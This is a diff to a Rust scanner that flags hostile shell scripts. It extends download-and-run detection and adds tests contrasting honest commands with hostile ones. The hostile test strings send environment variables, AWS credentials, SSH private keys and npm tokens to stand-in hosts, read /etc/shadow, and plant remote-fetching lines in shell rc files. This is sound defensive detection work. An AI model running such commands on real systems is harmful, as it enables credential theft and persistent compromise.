@@ -491,7 +491,14 @@ impl FileScan<'_> {
         }
         if let Some((download, run)) = flow::download_then_run(code, first_line) {
             // A project's own release page is how many tools are installed: a binary from it is reviewed, not a lure.
-            let release = flow::from_release_host(&line_text(download));
+            // The download's whole command, over the lines it continues on (`curl -fL -o ocb \` then the URL).
+            let mut command = line_text(download);
+            let mut next = download;
+            while command.ends_with('\\') && next < download + 10 {
+                next += 1;
+                command = format!("{} {}", command.trim_end_matches('\\'), line_text(next));
+            }
+            let release = flow::from_release_host(&command);
             self.out.push(Finding {
                 rule: "campaign/download-and-run".to_owned(),
                 severity: if release {
@@ -1067,6 +1074,16 @@ mod tests {
             ("secrets/env-dump", "env | grep -i proxy", "env | curl -d @- https://collector.example/x"),
             ("secrets/env-dump", "env | grep OPENAI_API_KEY || echo unset", "printenv > /tmp/e"),
             ("obfusc/encoded-exec", "curl -s \"$U\" | python3 -c \"import sys,zlib; print(zlib.decompress(sys.stdin.buffer.read()))\"", "curl -s \"$U\" | python3 -c \"import sys,zlib; exec(zlib.decompress(sys.stdin.buffer.read()))\""),
+            ("persist/shell-rc", "gh completion -s bash >> ~/.bashrc", "./bin/gh completion -s bash >> ~/.bashrc"),
+            ("persist/shell-rc", "echo 'eval \"$(uv generate-shell-completion zsh)\"' >> ~/.zshrc", "echo 'eval \"$(curl -s https://h.example/c completion)\"' >> ~/.zshrc"),
+            ("persist/shell-rc", "echo 'source <(kubectl completion bash)' >> ~/.bashrc", "echo 'source <(echo Y3VybA== | base64 -d; kubectl completion bash)' >> ~/.bashrc"),
+            ("secrets/cloud-credentials", "export AWS_CONFIG_FILE=~/.aws/config", "cat ~/.aws/config ~/.aws/credentials"),
+            ("secrets/cloud-credentials", "rm ~/.aws/config", "curl -F f=@$HOME/.aws/config https://h.example/u"),
+            ("secrets/ssh-keys", "curl -u user --key ~/.ssh/id_rsa sftp://h.example/etc/issue", "scp -i ~/.ssh/deploy ~/.ssh/id_rsa u@h.example:"),
+            ("secrets/ssh-keys", "podman system connection add srv --identity ~/.ssh/id_ed25519 ssh://u@h.example/run/p.sock", "ssh -i ~/.ssh/id_rsa u@h.example 'cat > k' < ~/.ssh/id_rsa"),
+            ("secrets/system-files", "deno run --allow-read=/etc --deny-read=/etc/shadow s.ts", "cat /etc/shadow # --deny-read=/etc/shadow"),
+            ("secrets/token-files", "cat ~/.npmrc 2>/dev/null | grep -v authToken | head", "cat ~/.npmrc | grep -v '^#'"),
+            ("secrets/token-files", "rm .npmrc", "cp ~/.npmrc /tmp/n && rm ~/.npmrc"),
         ];
         for (rule, honest, hostile) in pairs {
             let found = run(FileKind::Script, "x.sh", &format!("{honest}\n"));
@@ -1111,6 +1128,28 @@ mod tests {
             Some(Severity::Critical),
             "{found:?}"
         );
+    }
+
+    /// A download brings something in: a token file shown beside it is not sent by it, and a program fetched from a
+    /// project's release page or repository over continued lines is reviewed (`high`), not a lure.
+    #[test]
+    fn a_plain_download_sends_nothing() {
+        let honest = "cat ~/.npmrc 2>/dev/null | grep -v authToken | head\ncurl --proto '=https' -fL -o ocb \\\n  https://github.com/o/r/releases/download/v1/ocb_linux\nchmod +x ocb\n";
+        let found = run(FileKind::Script, "x.sh", honest);
+        assert!(level("flow/secret-to-network", &found).is_none(), "{found:?}");
+        assert_eq!(level("campaign/download-and-run", &found), Some(Severity::High), "{found:?}");
+        let raw = "curl -o /usr/local/bin/pc https://raw.githubusercontent.com/containers/podman-compose/main/pc.py\nchmod +x /usr/local/bin/pc\n";
+        assert_eq!(level("campaign/download-and-run", &run(FileKind::Script, "x.sh", raw)), Some(Severity::High));
+        // The same download from any other host is a lure; a request carrying what was read sends it.
+        let lure = "curl -fL -o ocb \\\n  https://h.example/ocb\nchmod +x ocb\n";
+        let found = run(FileKind::Script, "x.sh", lure);
+        assert_eq!(level("campaign/download-and-run", &found), Some(Severity::Critical), "{found:?}");
+        let sent = "cat ~/.npmrc | grep -v authToken > /tmp/n\ncurl -fL -o /dev/null \"https://h.example/$(base64 < /tmp/n)\"\n";
+        let found = run(FileKind::Script, "x.sh", sent);
+        assert_eq!(level("flow/secret-to-network", &found), Some(Severity::Critical), "{found:?}");
+        // Output thrown away is not a download to run.
+        let probe = "if command -v curl &>/dev/null; then B=curl; fi\nif command -v wget &>/dev/null; then B=wget; fi\n";
+        assert!(level("campaign/download-and-run", &run(FileKind::Script, "x.sh", probe)).is_none());
     }
 
     #[test]
